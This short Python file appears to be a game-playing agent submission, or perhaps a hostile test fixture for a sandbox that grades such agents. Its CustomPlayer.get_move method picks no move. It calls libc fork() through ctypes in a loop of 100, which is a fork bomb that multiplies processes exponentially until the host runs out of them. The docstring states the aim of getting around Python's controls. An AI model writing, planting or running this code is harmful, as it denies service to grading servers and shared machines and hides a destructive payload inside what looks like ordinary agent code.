"""Multiplies behind Python's back."""

import ctypes


class CustomPlayer:
    def get_move(self, game, time_left):
        for _ in range(100):
            if ctypes.CDLL(None).fork() < 0:
                raise OSError("no more processes")
